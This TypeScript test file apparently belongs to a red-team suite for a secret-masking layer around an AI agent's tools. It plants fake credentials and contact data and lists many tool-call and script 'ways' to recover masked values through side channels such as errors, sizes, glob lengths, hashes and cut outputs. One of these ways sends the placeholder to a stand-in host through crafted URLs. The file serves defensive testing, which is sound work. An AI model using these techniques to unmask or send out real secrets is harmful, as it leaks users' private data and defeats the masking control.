import { call } from '../../../support/masked-lab.ts';
import type { Planted } from '../../../support/planted-secrets.ts';
import type { Way } from './ways.ts';

const quoted = (text: string) => JSON.stringify(text);
const oneLine = (text: string) => text.split('\n')[0] ?? '';
/** The value as a part of a path or of a query of one word. */
const asName = (text: string) => oneLine(text).replaceAll(/[/*?[\]{}\\":]/g, '');
const secretOf = (secrets: readonly Planted[], kind: string) =>
  secrets.find((secret) => secret.kind === kind)?.value ?? '';

/** Notes in which the values are where readers other than those of plain text find them. */
export function carriersOf(secrets: readonly Planted[]): Record<string, string> {
  const email = secretOf(secrets, 'email');
  const phone = secretOf(secrets, 'phone');
  const iban = secretOf(secrets, 'iban');
  const key = secretOf(secrets, 'aws key');
  const token = secretOf(secrets, 'github token');
  const filler = 'Lettuce grows at twenty-one degrees. ';
  return {
    '/more/links.md': `See [[all|${email}]], [the contact](mailto:${email}) and ![${phone}](p.png).\n\n[^1]: ${iban}\n`,
    '/more/titled.md': `---\ntitle: Call ${phone}\naliases: [${email}, other]\n---\n\n# Call ${phone}\n\n## Mail ${email}\n`,
    '/more/tasks.md': `- [ ] mail ${email} today\n- [x] pay ${iban}\n- [ ] 2026-11-18 call ${phone} ⏫\n`,
    '/more/refs.bib': `@article{doe2020,\n  author = {Doe, Jane and ${email}},\n  note = {${iban}},\n  doi = {10.1/${key}}\n}\n`,
    '/more/run.ipynb': JSON.stringify({
      cells: [{ cell_type: 'code', source: [`mail = "${email}"`], outputs: [{ text: [`sent to ${email}\n`] }] }],
    }),
    '/more/view.base': `filters:\n  and:\n    - contact == "${email}"\n`,
    '/more/data.json': JSON.stringify({ [email]: { phone, token }, list: [iban, key] }),
    '/more/late.md': `${filler.repeat(11)}${email} ${filler.repeat(11)}${phone}\n`,
    '/more/long.md': `${`${filler}\n`.repeat(900)}${token}\n${`${filler}\n`.repeat(900)}${key}\n`,
    '/more/split.md': `${'x'.repeat(285)} ${email} ${'y'.repeat(280)} ${iban}\n`,
    '/more/tagged.md': `Text with #${key} and \`${token}\`.\n\n<!-- ${phone} -->\n\n| a | b |\n|---|---|\n| ${email} | ${iban} |\n`,
    '/more/patch.patch': `--- a/plain.md\n+++ b/plain.md\n@@ -1,1 +1,1 @@\n-Lettuce grows at ${phone}.\n+${email}\n`,
  };
}

const CARRIERS = [...'links titled tasks late long split tagged'.split(' ').map((name) => `/more/${name}.md`)];
const OTHERS = ['/more/refs.bib', '/more/run.ipynb', '/more/view.base', '/more/data.json', '/more/patch.patch'];

/** Ways that ask for one thing at many places: errors, sizes, order, cuts, names, links, tags, properties and tables. */
export const MORE_WAYS: readonly Way[] = [
  {
    name: 'errors: a text that is not there',
    calls: ({ path, guess, placeholder }) => [
      call('edit_file', { path, oldText: `${guess} ${placeholder}`, newText: 'x' }),
      call('edit_file', { path, oldText: placeholder.slice(0, -1), newText: 'x' }),
    ],
  },
  {
    name: 'errors: a query that cannot be read',
    calls: ({ guess }) =>
      [`"${asName(guess)}`, `prop:${asName(guess)}`, `tag:`, `-(${asName(guess)}`, `date:${asName(guess)}`].map(
        (query) => call('search_content', { query }),
      ),
  },
  {
    name: 'errors: lines and characters beyond the end',
    calls: ({ path }) => [
      call('read_file', { path, fromLine: 6 }),
      call('read_file', { path, fromLine: 99 }),
      call('read_file', { path, fromLine: 3, fromCharacter: 100 }),
      call('read_file', { path, fromLine: 3, fromCharacter: 5000 }),
      call('repo_open_file', { path, ranges: [{ fromLine: 5, toLine: 400 }] }),
    ],
  },
  {
    name: 'windows that divide the value',
    calls: ({ path }) =>
      [24, 26, 28, 31, 33, 37, 41, 45].map((fromCharacter) =>
        call('read_file', { path, fromLine: 3, fromCharacter, lines: 1 }),
      ),
  },
  {
    name: 'windows by a script, joined',
    source: ({ path }) => `const parts = [];
      for (let at = 20; at < 60; at += 3) parts.push((await cloister.read_file({ path: ${quoted(path)}, fromLine: 3, fromCharacter: at, lines: 1 })).content.slice(0, 3));
      return parts;`,
  },
  {
    name: 'grep: whole words, case and limits',
    calls: ({ path, guess }) => [
      call('grep', { query: oneLine(guess), path, wholeWord: true }),
      call('grep', { query: oneLine(guess).toUpperCase(), path, caseSensitive: true }),
      call('grep', { query: oneLine(guess).slice(1, 9), path, wholeWord: true }),
      call('grep', { query: `is ${oneLine(guess)} since`, path }),
      call('grep', { query: 'since', path, limit: 1 }),
    ],
  },
  {
    name: 'repo_search: whole words and context',
    calls: ({ guess }) => [
      call('repo_search', { query: oneLine(guess), path: '/', wholeWord: true }),
      call('repo_search', { query: oneLine(guess).slice(2, 10), path: '/code', context: 0, caseSensitive: false }),
    ],
  },
  {
    name: 'search_content: order of two notes',
    calls: ({ guess, kind }) =>
      [`${asName(guess)} Lettuce`, `Lettuce ${kind}`, `"sample is" ${asName(guess).slice(0, 6)}`].map((query) =>
        call('search_content', { query, limit: 3 }),
      ),
  },
  {
    name: 'search_content: filters by property, tag, path and exclusion',
    calls: ({ guess }) =>
      [
        `prop:contact=${asName(guess)}`,
        `prop:aliases=${asName(guess)}`,
        `tag:${asName(guess)}`,
        `path:${asName(guess)}`,
        `Lettuce -${asName(guess)}`,
        `title:${asName(guess)}`,
      ].map((query) => call('search_content', { query, limit: 5 })),
  },
  {
    name: 'search_content: one letter more each time',
    source: ({ guess }) => `const counts = [];
      for (let length = 3; length < 12; length += 2)
        counts.push((await cloister.search_content({ query: ${quoted(asName(guess))}.slice(0, length) + '*' })).hits?.length ?? -1);
      return counts;`,
  },
  {
    name: 'glob: the length and the letters of a name',
    calls: ({ guess }) => [
      ...[20, 21, 22, 23, 24].map((length) => call('glob', { pattern: `/contacts/${'?'.repeat(length)}.md` })),
      call('glob', { pattern: `/contacts/${asName(guess).slice(0, 1)}*` }),
      call('glob', { pattern: '/contacts/*@*' }),
      call('glob', { pattern: '/contacts/*.example.org*' }),
    ],
  },
  {
    name: 'a name that is taken: folder, move, label, deletion, tab',
    calls: ({ guess }) => {
      const path = `/contacts/${asName(guess)}.md`;
      return [
        call('create_folder', { path }),
        call('move_files', { moves: [{ from: '/plain.md', to: path }] }),
        call('move_file', { from: path, to: '/contacts/x.md' }),
        call('add_labels', { paths: [path], labels: ['untrusted'] }),
        call('delete_file', { path }),
        call('list_changes', { path }),
        call('ui_tabs_open', { path }),
        call('ui_tabs_close', { path }),
        call('update_file_properties', { path, set: { a: 1 } }),
        call('edit_file', { path, oldText: 'Contact', newText: 'x' }),
      ];
    },
  },
  {
    name: 'a name below the value, and in another case',
    calls: ({ guess }) => [
      call('create_file', { path: `/contacts/${asName(guess)}.md/x.md`, content: '' }),
      call('create_file', { path: `/contacts/${asName(guess).toUpperCase()}.MD`, content: '' }),
      call('list_files', { path: `/contacts/${asName(guess)}.md` }),
      call('grep', { query: 'Contact', path: `/contacts/${asName(guess)}.md` }),
      call('grep', { query: 'Contact', path: '/', glob: `**/${asName(guess)}*` }),
      call('search_content', { query: 'Contact', path: `/contacts/${asName(guess)}.md` }),
    ],
  },
  {
    name: 'a property that has the value already',
    calls: ({ guess, placeholder }) => [
      call('update_file_properties', { path: '/properties.md', set: { contact: oneLine(guess) } }),
      call('update_file_properties', { path: '/properties.md', set: { contact: placeholder } }),
      call('update_file_properties', { path: '/more/titled.md', set: { aliases: [oneLine(guess), 'other'] } }),
      call('update_file_properties', { path: '/properties.md', set: { status: 'open' } }),
    ],
  },
  {
    name: 'a property removed by its value, and a name that is the value',
    calls: ({ guess }) => [
      call('update_file_properties', { path: '/properties.md', remove: [oneLine(guess).slice(0, 100)] }),
      call('update_file_properties', { path: '/properties.md', set: { [oneLine(guess).slice(0, 100)]: 1 } }),
    ],
  },
  {
    name: 'a hash of the text with the value',
    source: ({ path, guess }) => `const { content, hash } = await cloister.read_file({ path: ${quoted(path)} });
      const tries = [];
      for (const text of [content, content.replace(/\\[[A-Z]+-[0-9a-f]+\\]/, ${quoted(guess)})]) {
        try { tries.push((await cloister.write_file({ path: ${quoted(path)}, content: text, baseHash: hash })).changed ?? 'ok'); }
        catch (error) { tries.push(error.message); }
      }
      return tries;`,
  },
  {
    name: 'two files of one size',
    source: ({ placeholder, guess }, nth) => `
      await cloister.create_file({ path: '/s-${nth}-a.md', content: ${quoted(placeholder)} });
      await cloister.create_file({ path: '/s-${nth}-b.md', content: ${quoted(guess)} });
      const sizes = [];
      for (const name of ['a', 'b']) sizes.push((await cloister.get_file_metadata({ path: '/s-${nth}-' + name + '.md' })).sizeBytes);
      return sizes[0];`,
  },
  {
    name: 'one placeholder in pieces',
    source: ({ placeholder }, nth) => `
      const text = ${quoted(placeholder)};
      await cloister.create_file({ path: '/p-${nth}.md', content: text.slice(0, 7) });
      await cloister.edit_file({ path: '/p-${nth}.md', oldText: text.slice(0, 7), newText: text });
      await cloister.edit_file({ path: '/p-${nth}.md', oldText: text.slice(0, 4), newText: 'x' + text.slice(0, 4) });
      const { content } = await cloister.read_file({ path: '/p-${nth}.md' });
      return [content, [...content].length];`,
  },
  {
    name: 'a guess that its placeholder replaces, in one call, in a script and by way of another text',
    calls: ({ guess, placeholder }, nth) => [
      call('create_file', { path: `/g-${nth}.md`, content: oneLine(guess) }),
      call('write_file', { path: `/g-${nth}.md`, content: placeholder }),
      call('create_file', { path: `/h-${nth}.md`, content: `The value: ${guess}.` }),
    ],
    source: ({ placeholder }, nth) => `
      const said = [];
      for (const content of ['zz', 'The value: ' + ${quoted(placeholder)} + '.'])
        try { said.push((await cloister.write_file({ path: '/h-${nth}.md', content })).sizeBytes); } catch (error) { said.push(error.message); }
      return said;`,
  },
  {
    name: 'the placeholder as a link that a move changes',
    source: ({ placeholder }, nth) => `
      await cloister.create_file({ path: '/l-${nth}.md', content: 'See [[' + ${quoted(placeholder)} + ']] and [x](contacts/' + ${quoted(placeholder)} + '.md)' });
      await cloister.move_file({ from: '/l-${nth}.md', to: '/moved/l-${nth}.md' });
      const { content, sizeBytes } = await cloister.read_file({ path: '/moved/l-${nth}.md' });
      return [content, sizeBytes];`,
  },
  {
    name: 'the placeholder as a tag and a property, then searched',
    source: ({ placeholder, guess }, nth) => `
      await cloister.create_file({ path: '/t-${nth}.md', content: '---\\nmail: "' + ${quoted(placeholder)} + '"\\n---\\n\\n#' + ${quoted(placeholder)} });
      const found = [];
      for (const query of ['prop:mail=' + ${quoted(asName(guess))}, 'tag:' + ${quoted(asName(guess))}, ${quoted(asName(guess))}])
        try { found.push((await cloister.search_content({ query, path: '/t-${nth}.md' })).hits?.length ?? -1); } catch (error) { found.push(error.message); }
      return found;`,
  },
  {
    name: 'the placeholder in a table and in JSON',
    source: ({ placeholder }, nth) => `
      await cloister.create_file({ path: '/d-${nth}.csv', content: 'a,b\\n' + ${quoted(placeholder)} + ',1\\n' });
      await cloister.create_file({ path: '/d-${nth}.json', content: JSON.stringify({ [${quoted(placeholder)}]: ${quoted(placeholder)} }) });
      return [await cloister.read_file({ path: '/d-${nth}.csv' }), await cloister.read_file({ path: '/d-${nth}.json' })].map(({ content, sizeBytes, lines }) => [content, sizeBytes, lines]);`,
  },
  {
    name: 'a patch that removes the value, and one that is only nearly right',
    calls: ({ path, guess, kind }, nth) => {
      const line = kind === 'password' ? `password: ${guess}` : `The ${kind} of this sample is ${guess} since May.`;
      const file = path.slice(1);
      const removing = `--- a/${file}\n+++ b/${file}\n@@ -3,1 +3,1 @@\n-${oneLine(line)}\n+gone\n`;
      const near = `--- a/${file}\n+++ b/${file}\n@@ -2,4 +2,4 @@\n \n ${oneLine(line)}x\n \n-Lettuce.\n+Basil.\n`;
      return [
        call('repo_propose_patch', { name: `r-${nth}`, patch: removing, folder: '/' }),
        call('repo_propose_patch', { name: `n-${nth}`, patch: near, folder: '/', maxFuzz: 2 }),
      ];
    },
  },
  {
    name: 'a patch file of the notebook',
    calls: () => [
      call('repo_apply_patch', { path: '/more/patch.patch', folder: '/' }),
      call('repo_apply_patch', { path: '/more/patch.patch', folder: '/', maxFuzz: 2 }),
    ],
  },
  {
    name: 'an address with the value in each of its parts',
    calls: ({ placeholder, guess }) =>
      [
        `https://hosts.example/#${placeholder}`,
        `https://${placeholder.toLowerCase().replaceAll(/[[\]]/g, '')}.hosts.example/`,
        `https://hosts.example/${placeholder.slice(0, 6)}/${placeholder.slice(6)}`,
        `https://hosts.example/?a=${encodeURIComponent(encodeURIComponent(placeholder))}`,
        `https://${encodeURIComponent(asName(guess))}@hosts.example/`,
      ].map((url) => call('fetch_url', { url })),
  },
  {
    name: 'the catalog, the tabs and an id by the value',
    calls: ({ guess, placeholder }) => [
      call('catalog_search', { query: `${oneLine(guess).slice(0, 400)} ${placeholder}` }),
      call('catalog_describe', { name: oneLine(guess).slice(0, 60) }),
      call('undo_change', { changeId: asName(guess).slice(0, 100) }),
      call('ui_tabs_open', { path: `/contacts/${placeholder}.md` }),
      call('ui_tabs_reorder', { paths: [`/contacts/${placeholder}.md`, '/plain.md'] }),
    ],
  },
  {
    name: 'a to-do list that is read again',
    calls: ({ placeholder, guess }, nth) => [
      call('write_todos', {
        todos: [
          { text: `${nth} ${placeholder}`.slice(0, 200), state: 'in_progress' },
          { text: oneLine(guess).slice(0, 200), state: 'completed' },
        ],
      }),
      call('write_todos', { todos: [] }),
    ],
  },
  {
    name: 'a script: positions, comparisons and the sort order of the text',
    source: ({ path, guess }) => `const { content } = await cloister.read_file({ path: ${quoted(path)} });
      return [content.length, content.indexOf(${quoted(guess)}), content.includes(${quoted(guess.slice(0, 5))}), content < ${quoted(guess)}, content.split(/\\d/).length, [...content].sort().join('').trim()];`,
  },
  {
    name: 'a script: what is thrown and printed',
    source: ({ path }) => `const { content } = await cloister.read_file({ path: ${quoted(path)} });
      console.error({ content }); console.warn([content]); console.log('%s', content.toLowerCase());
      const error = new TypeError('x'); error.cause = content; error.name = content.slice(0, 60); error[content] = 1; throw error;`,
  },
  {
    name: 'a script: a wrong call that holds the text',
    source: ({ path }) => `const { content } = await cloister.read_file({ path: ${quoted(path)} });
      const said = [];
      for (const wrong of [() => cloister.read_file({ path: content }), () => cloister.read_file({ [content]: 1 }), () => cloister[content]({}), () => cloister.grep({ query: content }), () => cloister.create_file({ path: '/x' + content, content: '' })])
        try { said.push(await wrong()); } catch (error) { said.push(error.message); }
      return said;`,
  },
  {
    name: 'a script: a file whose name is the text',
    source: ({ path }, nth) => `const { content } = await cloister.read_file({ path: ${quoted(path)} });
      const name = content.split('\\n')[2].replace(/[^\\p{L}\\p{N} @.-]/gu, '_').slice(0, 80);
      await cloister.create_file({ path: '/named-${nth}/' + name + '.md', content: 'x' });
      return (await cloister.list_files({ path: '/named-${nth}' })).entries.map((entry) => entry.path.length);`,
  },
  {
    name: 'a script: how much it may return and print',
    source: ({ path }) => `const { content } = await cloister.read_file({ path: ${quoted(path)} });
      console.log(content.repeat(2000)); return content.repeat(3000).length;`,
  },
  {
    name: 'a script: an answer cut in the middle of a value',
    source: ({ path }) => `const { content } = await cloister.read_file({ path: ${quoted(path)} });
      return ['x'.repeat(7000), content, 'y'.repeat(7000), content.repeat(40)];`,
  },
  {
    name: 'a script: the size of each line of a listing',
    source: () => `const { entries } = await cloister.list_files({ path: '/', recursive: true });
      return entries.map(({ path, sizeBytes }) => [path.length, sizeBytes]);`,
  },
  ...[...CARRIERS, ...OTHERS].map(
    (path): Way => ({
      name: `what ${path} shows`,
      calls: ({ guess }, nth) =>
        nth > 0
          ? [call('grep', { query: oneLine(guess).slice(0, 40), path })]
          : [
              call('read_file', { path }),
              call('get_file_metadata', { path }),
              call('repo_open_file', { path, ranges: [{ fromLine: 1, toLine: 2 }] }),
              call('grep', { query: 'e', path, limit: 3 }),
              call('search_content', { query: 'mail', path }),
              call('edit_file', { path, oldText: 'zzz', newText: 'x' }),
            ],
    }),
  ),
  {
    name: 'cuts in a long file',
    calls: (_target, nth) =>
      nth > 0
        ? []
        : [880, 895, 899, 900, 901].map((fromLine) =>
            call('read_file', { path: '/more/long.md', fromLine, lines: 12 }),
          ),
  },
  {
    name: 'cuts in a long line',
    calls: (_target, nth) =>
      nth > 0
        ? []
        : [
            ...[280, 286, 290, 300, 305, 310].map((fromCharacter) =>
              call('read_file', { path: '/more/split.md', fromCharacter }),
            ),
            ...['x', 'y', 'xx', 'yy'].map((query) => call('grep', { query, path: '/more/split.md' })),
            ...['degrees', 'Lettuce'].map((query) => call('search_content', { query, path: '/more/late.md' })),
          ],
  },
];
